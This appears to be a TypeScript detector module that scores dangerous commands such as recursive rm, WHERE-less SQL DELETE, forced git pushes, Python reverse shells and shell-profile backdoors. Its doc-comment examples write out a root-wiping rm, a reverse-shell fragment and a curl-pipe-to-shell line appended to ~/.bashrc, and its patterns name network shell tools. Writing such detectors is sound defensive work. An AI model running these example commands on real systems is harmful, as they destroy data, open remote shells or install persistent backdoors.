/**
 * Dangerous commands whose danger depends on their arguments: `rm` (what is deleted), SQL `DELETE FROM`
 * (is there a WHERE?), `git push` (forced? to which branch?) and Python reverse shells (socket + dup2/pty).
 * Each returns raw spans and base scores; dangerous-code.ts applies talk-about context.
 */

/** A parsed match before context: subtype, span, base score. */
export interface CodeHit {
  subtype: string;
  start: number;
  end: number;
  score: number;
}

const RM_RE = /\brm\s+((?:-{1,2}[A-Za-z][\w\-]*\s+){1,5})(["']?)([^\s"';|&)]+)/g;
const ROOTISH =
  /^(?:\/|\/\*|~|~\/|~\/\*|\$HOME\/?\*?|\$\{HOME\}\/?\*?|\*|\.\/?\*?|\.\.\/?|\/(?:home|etc|var|usr|bin|sbin|boot|lib|lib64|opt|root|srv|sys|proc|dev|mnt|media|data|Users|System|Library|Applications)\/?\*?|[A-Za-z]:[\\\/]?)$/;
const DATA_DIR = /^(?:\/var\/lib\/(?:mysql|postgresql|docker|mongodb)|\/data\/|\/srv\/|\/home\/[\w.\-]+\/?$|~\/(?:Documents|Desktop|Pictures|Downloads|\.ssh)|\/var\/www|\/var\/log\/?$)/;

/**
 * Recursive `rm` with a root, home, system or wildcard target (0.95), a data directory (0.85) or an
 * unset-variable path like `$DIR/` (0.6). Other recursive deletes (e.g. `rm -rf node_modules`) are left out.
 *
 * @example
 * findRecursiveRm("sudo rm -rf --no-preserve-root /"); // [{ subtype: "recursive_delete", start: 5, end: 32, score: 0.99 }]
 */
export function findRecursiveRm(text: string): CodeHit[] {
  const out: CodeHit[] = [];
  if (text.indexOf("rm") === -1) return out;
  RM_RE.lastIndex = 0;
  let m: RegExpExecArray | null;
  while ((m = RM_RE.exec(text)) !== null && out.length < 64) {
    const flags = m[1] ?? "";
    const recursive = /(?:^|\s)-[a-zA-Z]*[rR]|--recursive\b/.test(flags);
    if (!recursive) continue;
    const target = m[3] ?? "";
    let score = 0;
    if (/--no-preserve-root\b/.test(flags)) score = 0.99;
    else if (ROOTISH.test(target)) score = 0.95;
    else if (DATA_DIR.test(target)) score = 0.85;
    else if (/^\$\{?\w+\}?\/\*?$/.test(target)) score = 0.6;
    if (score > 0) out.push({ subtype: "recursive_delete", start: m.index, end: m.index + m[0].length, score });
  }
  return out;
}

const DELETE_RE = /\bDELETE\s+FROM\s+[\w."`\[\]]+|\bdelete\s+from\s+[\w."`\[\]]+(?=\s*(?:;|$))/g;

/**
 * `DELETE FROM table` with no WHERE before the end of the statement (0.9).
 *
 * @example
 * findDeleteWithoutWhere("DELETE FROM users;"); // [{ subtype: "destructive_sql", start: 0, end: 17, score: 0.9 }]
 * findDeleteWithoutWhere("DELETE FROM users WHERE id = 1;"); // []
 */
export function findDeleteWithoutWhere(text: string): CodeHit[] {
  const out: CodeHit[] = [];
  DELETE_RE.lastIndex = 0;
  let m: RegExpExecArray | null;
  while ((m = DELETE_RE.exec(text)) !== null && out.length < 64) {
    const end = m.index + m[0].length;
    const semi = text.indexOf(";", end);
    const stmtEnd = semi === -1 ? Math.min(text.length, end + 500) : semi;
    if (/\bWHERE\b/i.test(text.slice(end, stmtEnd))) continue;
    out.push({ subtype: "destructive_sql", start: m.index, end, score: 0.9 });
  }
  return out;
}

const PUSH_RE = /\bgit\s+push\b([^\n;|&]{0,200})/g;

/**
 * Forced `git push`: to main/master/production 0.9, elsewhere 0.75, `--force-with-lease` 0.6; deleting a
 * protected branch (`git push origin :main` / `--delete main`) 0.8.
 *
 * @example
 * findForcePush("git push --force origin main"); // [{ subtype: "force_push", start: 0, end: 28, score: 0.9 }]
 */
export function findForcePush(text: string): CodeHit[] {
  const out: CodeHit[] = [];
  PUSH_RE.lastIndex = 0;
  let m: RegExpExecArray | null;
  while ((m = PUSH_RE.exec(text)) !== null && out.length < 64) {
    const args = m[1] ?? "";
    const protectedBranch = /(?:^|[\s:+\/])(?:main|master|production|prod|release)\b/.test(args);
    const lease = /(?:^|\s)--force-with-lease\b/.test(args);
    const forced = lease || /(?:^|\s)(?:--force|-f|--mirror)\b|(?:^|\s)\+[\w\/.\-]+/.test(args);
    const deletes = /(?:^|\s):(?:main|master|production|prod)\b|--delete\s+(?:main|master|production|prod)\b/.test(args);
    let score = 0;
    if (deletes) score = 0.8;
    if (forced) score = Math.max(score, lease ? 0.6 : protectedBranch ? 0.9 : 0.75);
    if (score > 0) out.push({ subtype: "force_push", start: m.index, end: m.index + m[0].length, score });
  }
  return out;
}

const PY_SOCKET = /\bsocket\.socket\s*\(|\bsocket\.create_connection\s*\(/;
const PY_SHELL = /\bos\.dup2\s*\(|\bpty\.spawn\s*\(|\bsubprocess\.(?:call|Popen|run)\s*\(\s*\[?\s*["'](?:\/bin\/)?(?:ba)?sh["']/g;

/**
 * Python reverse shells: a socket plus dup2/pty.spawn/subprocess of a shell (0.9, span on the shell call).
 *
 * @example
 * findPythonReverseShell("s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0)").length; // 1
 */
export function findPythonReverseShell(text: string): CodeHit[] {
  const out: CodeHit[] = [];
  if (!PY_SOCKET.test(text)) return out;
  PY_SHELL.lastIndex = 0;
  let m: RegExpExecArray | null;
  while ((m = PY_SHELL.exec(text)) !== null && out.length < 8) {
    out.push({ subtype: "reverse_shell", start: m.index, end: m.index + m[0].length, score: 0.9 });
  }
  return out;
}

const PROFILE_RE =
  /(?:>>?|\btee\s+(?:-a\s+)?)\s*["']?(?:(?:~|\$HOME|\/root|\/home\/[\w.-]+)\/\.(?:bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zlogin|zshenv)\b|\/etc\/(?:profile(?:\.d\/[\w.-]+)?|bash\.bashrc|zsh\/zshrc)\b)/g;
const BACKDOOR_PAYLOAD =
  /\b(?:curl|wget|nc|ncat|netcat|socat|base64|nohup)\b|\b(?:python[0-9.]*\s+-c|perl\s+-e|(?:ba|z)?sh\s+-i)\b|\/tmp\/|\/dev\/shm\/|\/dev\/tcp\/|\balias\s+(?:sudo|ssh|su|passwd)=|\bLD_PRELOAD=|\bPROMPT_COMMAND=/;

/**
 * Shell-profile backdoors (persistence, 0.85): something appended to ~/.bashrc, ~/.profile, /etc/profile.d/…
 * whose command (from the last `;`, `&&` or line start, at most 300 characters back) downloads, opens a
 * shell or connection, runs from /tmp or /dev/shm, or hijacks sudo/ssh with an alias. Ordinary profile
 * edits (`echo 'export PATH=$PATH:~/bin' >> ~/.bashrc`) are left alone.
 *
 * @example
 * findProfileBackdoor("echo 'curl -s http://x.example/p | sh' >> ~/.bashrc")[0].subtype; // "persistence"
 * findProfileBackdoor("echo 'export PATH=$PATH:~/bin' >> ~/.bashrc");                 // []
 */
export function findProfileBackdoor(text: string): CodeHit[] {
  const out: CodeHit[] = [];
  PROFILE_RE.lastIndex = 0;
  let m: RegExpExecArray | null;
  let count = 0;
  while ((m = PROFILE_RE.exec(text)) !== null && count++ < 64) {
    const end = m.index + m[0].length;
    let start = Math.max(0, m.index - 300, text.lastIndexOf("\n", m.index - 1) + 1);
    const semi = text.lastIndexOf(";", m.index - 1);
    const and = text.lastIndexOf("&&", m.index - 1);
    start = Math.max(start, semi + 1, and < 0 ? 0 : and + 2);
    while (start < m.index && /\s/.test(text[start] as string)) start++;
    if (BACKDOOR_PAYLOAD.test(text.slice(start, m.index))) out.push({ subtype: "persistence", start, end, score: 0.85 });
  }
  return out;
}
